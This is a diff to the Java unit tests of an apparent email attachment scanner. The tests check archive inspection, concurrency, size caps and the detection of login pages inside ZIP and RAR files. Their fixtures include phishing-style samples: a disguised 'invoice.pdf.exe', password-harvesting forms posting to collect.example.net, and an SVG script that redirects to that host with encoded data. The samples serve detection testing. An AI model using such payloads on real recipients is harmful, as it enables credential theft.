@@ -9,6 +9,7 @@ import io.mamori.core.message.Direction;
 import io.mamori.core.message.Envelope;
 import io.mamori.core.message.Fixtures;
 import io.mamori.core.message.MessageParser;
+import io.mamori.core.message.ParsedMessage;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -100,6 +101,159 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
+    void theAttachmentAnalyzersShareOneInspectionOfEachMessageAndFindWhatTheirOwnWalksFind() throws Exception {
+        ParsedMessage message = message(
+                "Invoice.zip", zip("invoice.pdf.exe", "MZ", "invoice.html", "<form><input type=password name=p></form>"),
+                "logo.png", PNG);
+        AttachmentContentAnalyzer content = new AttachmentContentAnalyzer();
+        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
+        List<java.util.concurrent.Future<List<Finding>>> pages = new ArrayList<>();
+        List<java.util.concurrent.Future<List<Finding>>> contents = new ArrayList<>();
+        try {
+            java.util.concurrent.CountDownLatch start = new java.util.concurrent.CountDownLatch(1);
+            for (int i = 0; i < 2; i++) {
+                pages.add(pool.submit(() -> {
+                    start.await();
+                    return analyzer.analyze(new AnalysisInput(ENVELOPE, message));
+                }));
+                contents.add(pool.submit(() -> {
+                    start.await();
+                    return content.analyze(new AnalysisInput(ENVELOPE, message));
+                }));
+            }
+            start.countDown();
+            // limits equal in all that matters but not the defaults: an inspection of its own, without the memo
+            ArchiveLimits own = new ArchiveLimits(5, 1000, 100, 200L * 1024 * 1024, 32 * 1024 * 1024 + 1);
+            List<Finding> alone = new AttachmentContentAnalyzer(own).analyze(new AnalysisInput(ENVELOPE, message));
+            assertThat(alone).extracting(Finding::code).contains("ATTACHMENT_EXECUTABLE");
+            for (int i = 0; i < 2; i++) {
+                assertThat(pages.get(i).get()).containsExactly(Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
+                        Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form"));
+                assertThat(contents.get(i).get()).isEqualTo(alone);
+            }
+        } finally {
+            pool.shutdown();
+        }
+        // four analyses, one walk through the archive
+        assertThat(AttachmentContentAnalyzer.inspections(message)).isEqualTo(1);
+        // the same message parsed again is inspected anew
+        ParsedMessage again = message("Invoice.zip", zip("invoice.html", "<p>hello</p>"));
+        assertThat(AttachmentContentAnalyzer.inspections(again)).isZero();
+        analyzer.analyze(new AnalysisInput(ENVELOPE, again));
+        assertThat(AttachmentContentAnalyzer.inspections(again)).isEqualTo(1);
+        assertThat(AttachmentContentAnalyzer.inspections(message)).isEqualTo(1);
+    }
+
+    @Test
+    void thePagesTheInspectionTakesAreThoseAWalkForPagesHandsOver() throws Exception {
+        byte[] inner = zip("docs/scan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
+                + "window.location='https://collect.example.net/?e='+atob('eA==')</script></svg>");
+        List<Object> many = new ArrayList<>();
+        for (int i = 0; i < 12; i++) {
+            many.add("p" + i + ".html");
+            many.add(i % 2 == 0 ? "<form action='https://x.example/" + i + "'></form>" : "<p>page " + i + "</p>");
+        }
+        // pages of 2.5 MiB of words (compressing about tenfold, not a bomb): each read up to 2 MiB, and 8 MiB in all
+        // are read out of the message's archives
+        java.util.Random random = new java.util.Random(7);
+        String[] words = new String[64];
+        for (int i = 0; i < words.length; i++) {
+            words[i] = Integer.toString(random.nextInt(1 << 30), 36);
+        }
+        StringBuilder text = new StringBuilder("<html><body><script>eval(1)</script>");
+        while (text.length() < 5 * 512 * 1024) {
+            text.append(words[random.nextInt(words.length)]).append(' ');
+        }
+        String big = text.append("</body></html>").toString();
+        byte[] large = zip("a.html", big, "b.html", big, "c.html", big, "d.html", big, "e.html", big);
+        ParsedMessage message = message("login.zip", zip("readme.txt", "open it", "login.htm", "<input type=password>"),
+                "fax.zip", zip("inner.zip", inner, "cover.pdf", "%PDF-1.4 not really"),
+                "many.zip", zip(many.toArray()), "large.zip", large, "photo.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, 0});
+
+        List<HtmlAttachmentAnalyzer.Page> walked = new ArrayList<>();
+        ArchiveContents walk = new ArchiveContents(ArchiveLimits.defaults(),
+                java.util.Map.of(ArchiveContents.Type.HTML, HtmlAttachmentAnalyzer.MAX_BYTES),
+                HtmlAttachmentAnalyzer.MAX_ARCHIVED_BYTES);
+        for (var part : message.parts()) {
+            if (part.content() != null) {
+                walk.walkIfArchive(part.filename(), part.filename(), part.content(), file -> {
+                    String[] signs = HtmlAttachmentAnalyzer.signs(file.path(), HtmlAttachmentAnalyzer.decode(file.bytes(), null));
+                    walked.add(new HtmlAttachmentAnalyzer.Page(part.path(), file.path(), signs[0], signs[1]));
+                    return walked.size() < HtmlAttachmentAnalyzer.MAX_FILES;
+                });
+            }
+        }
+        List<HtmlAttachmentAnalyzer.Page> inspected = AttachmentContentAnalyzer.inspected(message).pages();
+        assertThat(inspected).isEqualTo(walked);
+        assertThat(inspected).extracting(HtmlAttachmentAnalyzer.Page::path).containsExactly("login.zip!/login.htm",
+                "fax.zip!/inner.zip!/docs/scan.svg", "many.zip!/p0.html", "many.zip!/p1.html", "many.zip!/p2.html",
+                "many.zip!/p3.html", "many.zip!/p4.html", "many.zip!/p5.html", "many.zip!/p6.html", "many.zip!/p7.html");
+
+        // without the page cap, the byte caps decide
+        ParsedMessage large2 = message("large.zip", large);
+        walked.clear();
+        ArchiveContents walk2 = new ArchiveContents(ArchiveLimits.defaults(),
+                java.util.Map.of(ArchiveContents.Type.HTML, HtmlAttachmentAnalyzer.MAX_BYTES),
+                HtmlAttachmentAnalyzer.MAX_ARCHIVED_BYTES);
+        walk2.walkIfArchive("large.zip", "large.zip", large2.parts().get(1).content(), file -> {
+            String[] signs = HtmlAttachmentAnalyzer.signs(file.path(), HtmlAttachmentAnalyzer.decode(file.bytes(), null));
+            walked.add(new HtmlAttachmentAnalyzer.Page("2", file.path(), signs[0], signs[1]));
+            return true;
+        });
+        assertThat(AttachmentContentAnalyzer.inspected(large2).pages()).isEqualTo(walked)
+                .extracting(HtmlAttachmentAnalyzer.Page::path)
+                .containsExactly("large.zip!/a.html", "large.zip!/b.html", "large.zip!/c.html", "large.zip!/d.html");
+    }
+
+    @Test
+    void eachPartIsReadOnceToTellWhetherItIsAnArchiveWhenAnalyzersAskInParallel() throws Exception {
+        // a zip named as a page: the HTML analyzer asks whether it is an archive (and then walks the message itself)
+        ParsedMessage message = message("invoice.html", zip("a.html", "<form></form>"), "logo.png", PNG);
+        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
+        try {
+            java.util.concurrent.CountDownLatch start = new java.util.concurrent.CountDownLatch(1);
+            List<java.util.concurrent.Future<List<Finding>>> runs = new ArrayList<>();
+            for (int i = 0; i < 4; i++) {
+                runs.add(pool.submit(() -> {
+                    start.await();
+                    return analyzer.analyze(new AnalysisInput(ENVELOPE, message));
+                }));
+            }
+            start.countDown();
+            for (java.util.concurrent.Future<List<Finding>> run : runs) {
+                assertThat(run.get()).containsExactly(Finding.of("HTML_ATTACHMENT", "invoice.html"));
+            }
+        } finally {
+            pool.shutdown();
+        }
+        var page = message.parts().get(1).content();
+        assertThat(ArchiveContents.headReads(page)).isEqualTo(1);
+        assertThat(AttachmentContentAnalyzer.inspections(message)).isZero();
+        byte[] whole;
+        try (var in = page.open()) {
+            whole = in.readAllBytes();
+        }
+        assertThat(ArchiveContents.head(page)).isEqualTo(java.util.Arrays.copyOf(whole, Math.min(whole.length, ArchiveContents.HEAD)));
+        assertThat(ArchiveContents.headReads(page)).isEqualTo(1);
+    }
+
+    /** A message with a line of text and the given attachments (name, content pairs), parsed. */
+    private static ParsedMessage message(Object... namesAndContents) throws IOException {
+        StringBuilder mail = new StringBuilder("From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n");
+        for (int i = 0; i < namesAndContents.length; i += 2) {
+            mail.append("--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"")
+                    .append(namesAndContents[i]).append("\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
+                    .append(Base64.getMimeEncoder().encodeToString((byte[]) namesAndContents[i + 1])).append("\r\n");
+        }
+        mail.append("--b--\r\n");
+        return new MessageParser().parse(new ByteArrayInputStream(mail.toString().getBytes(StandardCharsets.UTF_8)));
+    }
+
+    /** The first bytes of a PNG file: enough to be told from an archive. */
+    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
+
+    @Test
     void aLoginPageInsideAZipIsAFormNamedByItsPathInTheArchive() throws Exception {
         byte[] zip = zip("readme.txt", "Please open the invoice.",
                 "invoice.html", "<html><body><form action='https://collect.example.net/p'>"
@@ -107,6 +261,18 @@ class HtmlAttachmentAnalyzerTest {
         assertThat(analyzeFile("Invoice.zip", zip)).containsExactly(
                 Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
                 Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
+    }
+
+    @Test
+    void aLoginPageStoredInARarIsAFormNamedByItsPathInTheArchive() throws Exception {
+        byte[] rar = RarWriter.rar5()
+                .add("readme.txt", RarWriter.Kind.COMPRESSED, "Please open the invoice.".getBytes(StandardCharsets.UTF_8))
+                .add("請求書/invoice.html", RarWriter.Kind.STORED, ("<html><body><form action='https://collect.example.net/p'>"
+                        + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8))
+                .end();
+        assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
+                Finding.of("HTML_ATTACHMENT_FORM", "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
     }
 
     @Test
